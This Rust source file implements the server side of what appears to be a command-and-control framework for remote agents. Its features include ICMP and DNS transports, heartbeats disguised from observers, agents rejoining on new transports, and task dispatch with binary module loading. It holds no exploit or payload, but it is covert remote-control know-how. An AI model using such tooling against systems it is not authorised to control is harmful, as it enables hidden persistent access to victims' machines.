//! Wires the listener, framing, session and task layers together: the
//! [`ServerEvents`] type is the only thing in this crate that knows about all
//! four at once. Everything it does — opening a session, sealing an
//! outbound frame, routing a send through the right listener — is built out
//! of calls into `dinoc_core`.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU16, Ordering};
use std::sync::Arc;

use async_trait::async_trait;
use dashmap::DashMap;
use tracing::{debug, info, warn};

use dinoc_core::error::{Error, Result};
use dinoc_core::frame::aead::KEY_LEN;
use dinoc_core::frame::header::FrameKind;
use dinoc_core::frame::{self, Reassembler, SessionCipher};
use dinoc_core::id::{AgentId, ListenerId};
use dinoc_core::listener::{Listener, ListenerEvents};
use dinoc_core::message::Message;
use dinoc_core::session::{RegistrationPayload, SessionRegistry};
use dinoc_core::task::{self, ModuleStore, TaskEngine};
use dinoc_core::transport::{TransportHandle, TransportKind};

/// The plaintext body a heartbeat carries once decrypted. Deliberately not a
/// [`FrameKind`] variant: an observer without the session key can't tell a
/// heartbeat apart from any other short application frame.
const HEARTBEAT_BODY: &[u8] = b"HEAR";

/// Consecutive frame-decode failures on one session before it's treated as
/// desynced and closed, rather than dropping frames forever.
const PROTOCOL_DESYNC_THRESHOLD: u32 = 3;

/// Ties the session registry, task engine, reassembler and per-agent ciphers
/// to the listener registry that makes an outbound send possible, and
/// implements [`ListenerEvents`] so any listener adapter can drive it.
pub struct ServerEvents {
    registry: Arc<SessionRegistry>,
    tasks: Arc<TaskEngine>,
    reassembler: Arc<Reassembler>,
    modules: Arc<ModuleStore>,
    listeners: DashMap<ListenerId, Arc<dyn Listener>>,
    /// Per-connection bookkeeping collected at `on_connect`, before the
    /// registration frame that tells us which agent (new or rejoining) this
    /// connection belongs to.
    pending_transport: DashMap<AgentId, TransportHandle>,
    /// Maps a listener-issued connection token to the registry's real
    /// [`AgentId`] once registration completes. Needed because a listener
    /// keeps addressing a connection by whatever id `on_connect` returned
    /// for its whole lifetime, even across a rejoin that resolves to an
    /// agent registered under a different id.
    resolved_agent: DashMap<AgentId, AgentId>,
    ciphers: DashMap<AgentId, SessionCipher>,
    shared_key: [u8; KEY_LEN],
    fragment_ids: AtomicU16,
    /// Consecutive decode failures per connection token, reset on any
    /// successful decode. Hitting [`PROTOCOL_DESYNC_THRESHOLD`] closes the
    /// session instead of dropping frames indefinitely.
    decode_failures: DashMap<AgentId, u32>,
}

impl ServerEvents {
    pub fn new(registry: Arc<SessionRegistry>, tasks: Arc<TaskEngine>, shared_key: [u8; KEY_LEN]) -> Arc<Self> {
        Arc::new(Self {
            registry,
            tasks,
            reassembler: Arc::new(Reassembler::new()),
            modules: Arc::new(ModuleStore::new()),
            listeners: DashMap::new(),
            pending_transport: DashMap::new(),
            resolved_agent: DashMap::new(),
            ciphers: DashMap::new(),
            shared_key,
            fragment_ids: AtomicU16::new(0),
            decode_failures: DashMap::new(),
        })
    }

    pub fn reassembler(&self) -> Arc<Reassembler> {
        self.reassembler.clone()
    }

    /// Registers a started listener so its agents' outbound frames can be
    /// routed back through `Listener::send`. Must happen before the listener
    /// is started, since `on_connect` assumes its entry is already present.
    pub fn register_listener(&self, listener: Arc<dyn Listener>) {
        self.listeners.insert(listener.id(), listener);
    }

    fn next_fragment_id(&self) -> u16 {
        self.fragment_ids.fetch_add(1, Ordering::Relaxed)
    }

    fn bootstrap_cipher(&self) -> SessionCipher {
        SessionCipher::aes_gcm(&self.shared_key)
    }

    fn is_datagram(kind: TransportKind) -> bool {
        matches!(kind, TransportKind::Udp | TransportKind::Icmp | TransportKind::Dns)
    }

    async fn send_frame(&self, agent: AgentId, transport: TransportHandle, kind: FrameKind, plaintext: &[u8]) {
        let Some(listener) = self.listeners.get(&transport.listener_id()).map(|entry| entry.clone()) else {
            warn!(%agent, listener = %transport.listener_id(), "no listener registered for this transport");
            return;
        };
        let cipher = self
            .ciphers
            .get(&agent)
            .map(|entry| entry.clone())
            .unwrap_or_else(|| self.bootstrap_cipher());

        let datagrams: Vec<Vec<u8>> = if Self::is_datagram(transport.kind()) {
            let fragment_id = self.next_fragment_id();
            match frame::encode_outbound_fragmented(plaintext, kind, &cipher, true, fragment_id) {
                Ok(datagrams) => datagrams,
                Err(err) => {
                    warn!(%agent, error = %err, "failed to encode outbound fragmented frame");
                    return;
                }
            }
        } else {
            match frame::encode_outbound(plaintext, kind, &cipher, true) {
                Ok(wire) => vec![wire],
                Err(err) => {
                    warn!(%agent, error = %err, "failed to encode outbound frame");
                    return;
                }
            }
        };

        for datagram in datagrams {
            if let Err(err) = listener.send(transport.peer_addr(), Message::new(datagram)).await {
                warn!(%agent, error = %err, "failed to send frame to agent");
                return;
            }
        }
    }

    /// Sends the oldest pending task for `agent`, if one is waiting.
    async fn dispatch_pending(&self, agent: AgentId) {
        let Some(task) = self.tasks.dispatch_next(agent) else {
            return;
        };
        let Ok(session) = self.registry.lookup(agent) else {
            return;
        };

        let resolved_module = if let task::TaskKind::ModuleLoad { name } = task.kind() {
            match self.modules.resolve(name) {
                Ok(bytes) => Some(bytes),
                Err(err) => {
                    warn!(task = %task.id(), module = %name, error = %err, "module load task has no resolvable blob");
                    let _ = self.tasks.fail_with_error(task.id(), err.to_string());
                    return;
                }
            }
        } else {
            None
        };

        let envelope = match task::encode_dispatch(&task, resolved_module.as_deref()) {
            Ok(envelope) => envelope,
            Err(err) => {
                warn!(task = %task.id(), error = %err, "failed to encode task dispatch");
                let _ = self.tasks.fail_with_error(task.id(), err.to_string());
                return;
            }
        };
        self.send_frame(agent, session.transport(), FrameKind::Application, &envelope).await;
        if let Err(err) = self.tasks.mark_sent(task.id()) {
            warn!(task = %task.id(), error = %err, "failed to mark dispatched task sent");
        }
    }

    async fn handle_registration(&self, token: AgentId, transport: TransportHandle, plaintext: &[u8]) {
        let payload = match RegistrationPayload::decode(plaintext) {
            Ok(payload) => payload,
            Err(err) => {
                warn!(error = %err, "dropping malformed registration frame");
                return;
            }
        };

        let agent_id = match payload.rejoin.filter(|id| self.registry.lookup(*id).is_ok()) {
            Some(existing) => {
                if let Err(err) = self.registry.switch_protocol(existing, transport) {
                    warn!(agent = %existing, error = %err, "failed to rejoin agent on new transport");
                    return;
                }
                existing
            }
            None => {
                let session = self.registry.register(transport);
                if let Err(err) = self.registry.complete_registration(session.id(), payload.info.clone()) {
                    warn!(agent = %session.id(), error = %err, "failed to complete registration");
                    return;
                }
                session.id()
            }
        };

        let cipher = match SessionCipher::for_magic(payload.cipher_magic, &self.shared_key) {
            Ok(cipher) => cipher,
            Err(err) => {
                warn!(agent = %agent_id, error = %err, "agent requested an unsupported cipher");
                return;
            }
        };
        self.ciphers.insert(agent_id, cipher);
        self.resolved_agent.insert(token, agent_id);

        if payload.heartbeat_interval_secs > 0 {
            if let Err(err) = self.registry.set_heartbeat(
                agent_id,
                payload.heartbeat_interval_secs as u64,
                payload.heartbeat_jitter_secs as u64,
            ) {
                warn!(agent = %agent_id, error = %err, "agent requested an invalid heartbeat cadence, keeping the default");
            }
        }

        info!(agent = %agent_id, hostname = %payload.info.hostname, "agent registered");
        self.send_frame(agent_id, transport, FrameKind::RegistrationReply, &agent_id.to_bytes()).await;
    }

    async fn handle_task_result(&self, agent: AgentId, plaintext: &[u8]) {
        let (task_id, success, output) = match task::decode_task_result(plaintext) {
            Ok(parsed) => parsed,
            Err(err) => {
                warn!(%agent, error = %err, "dropping malformed task result");
                return;
            }
        };

        if success {
            if let Ok(task) = self.tasks.find(task_id) {
                match task.kind() {
                    task::TaskKind::ModuleLoad { name } => self.modules.record_load(agent, name.clone()),
                    task::TaskKind::ModuleUnload { name } => self.modules.record_unload(agent, name),
                    _ => {}
                }
            }
        }

        let outcome = if success {
            self.tasks.complete(task_id, output)
        } else {
            self.tasks.fail(task_id, output)
        };
        if let Err(err) = outcome {
            warn!(task = %task_id, error = %err, "failed to record task result");
        }
    }

    /// Decodes one inbound frame, tracking consecutive failures for `token`
    /// and closing the session once [`PROTOCOL_DESYNC_THRESHOLD`] is hit in
    /// a row — including a frame whose magic doesn't match the session
    /// cipher, which `frame::decode_inbound` itself now rejects.
    async fn decode(&self, token: AgentId, key: AgentId, transport: TransportHandle, cipher: &SessionCipher, bytes: &[u8]) -> Option<(Vec<u8>, FrameKind)> {
        let result = if Self::is_datagram(transport.kind()) {
            frame::decode_inbound_fragmented(key, bytes, cipher, &self.reassembler)
        } else {
            frame::decode_inbound(bytes, cipher).map(Some)
        };
        match result {
            Ok(decoded) => {
                self.decode_failures.remove(&token);
                decoded
            }
            Err(err) => {
                debug!(agent = %key, error = %err, "dropping frame that failed to decode");
                let failures = {
                    let mut entry = self.decode_failures.entry(token).or_insert(0);
                    *entry += 1;
                    *entry
                };
                if failures >= PROTOCOL_DESYNC_THRESHOLD {
                    warn!(agent = %key, failures, "closing session: protocol desync");
                    self.close_session(token).await;
                }
                None
            }
        }
    }

    /// Tears down everything this session holds, short of the physical
    /// connection itself (which the listener owns and will eventually
    /// notice is gone).
    async fn close_session(&self, token: AgentId) {
        self.decode_failures.remove(&token);
        self.pending_transport.remove(&token);
        if let Some((_, agent)) = self.resolved_agent.remove(&token) {
            self.ciphers.remove(&agent);
            let _ = self.registry.disconnect(agent);
        }
    }
}

#[async_trait]
impl ListenerEvents for ServerEvents {
    async fn on_connect(&self, listener: ListenerId, peer: SocketAddr) -> AgentId {
        let token = AgentId::new();
        let kind = self
            .listeners
            .get(&listener)
            .map(|entry| entry.kind())
            .unwrap_or(TransportKind::Tcp);
        self.pending_transport.insert(token, TransportHandle::new(kind, listener, peer));
        debug!(%token, %peer, "connection accepted, awaiting registration");
        token
    }

    async fn on_message(&self, token: AgentId, message: Message) {
        let Some(transport) = self.pending_transport.get(&token).map(|entry| *entry) else {
            warn!(agent = %token, "message from a connection with no known transport");
            return;
        };
        let resolved = self.resolved_agent.get(&token).map(|entry| *entry);
        let bootstrap_cipher = self.bootstrap_cipher();
        let cipher = resolved
            .and_then(|agent| self.ciphers.get(&agent).map(|entry| entry.clone()))
            .unwrap_or(bootstrap_cipher);

        let bytes = message.to_vec();
        let Some((plaintext, kind)) = self.decode(token, resolved.unwrap_or(token), transport, &cipher, &bytes).await else {
            return;
        };

        match kind {
            FrameKind::Registration => self.handle_registration(token, transport, &plaintext).await,
            FrameKind::RegistrationReply => {
                warn!(agent = %token, "agent sent a registration reply, which only the server originates");
            }
            FrameKind::TaskResult => {
                let Some(agent) = resolved else {
                    warn!(agent = %token, "task result from an unregistered connection");
                    return;
                };
                self.handle_task_result(agent, &plaintext).await;
            }
            FrameKind::Application => {
                let Some(agent) = resolved else {
                    warn!(agent = %token, "application frame from an unregistered connection");
                    return;
                };
                if plaintext == HEARTBEAT_BODY {
                    if let Err(err) = self.registry.on_heartbeat(agent) {
                        warn!(%agent, error = %err, "heartbeat from an agent not in the registry");
                        return;
                    }
                    self.dispatch_pending(agent).await;
                } else {
                    info!(%agent, bytes = plaintext.len(), "received application data");
                }
            }
        }
    }

    async fn on_disconnect(&self, token: AgentId) {
        self.close_session(token).await;
    }
}

/// Parses a server-wide pre-shared AEAD key out of a hex string, the only key
/// provisioning mechanism this daemon implements. Real key distribution
/// across agents is out of scope here, same as operator authentication.
pub fn parse_shared_key(hex: &str) -> Result<[u8; KEY_LEN]> {
    if hex.len() != KEY_LEN * 2 {
        return Err(Error::invalid_argument(format!(
            "shared key must be {} hex characters, got {}",
            KEY_LEN * 2,
            hex.len()
        )));
    }
    let mut key = [0u8; KEY_LEN];
    for (i, byte) in key.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&hex[i * 2..i * 2 + 2], 16)
            .map_err(|_| Error::invalid_argument("shared key is not valid hex"))?;
    }
    Ok(key)
}
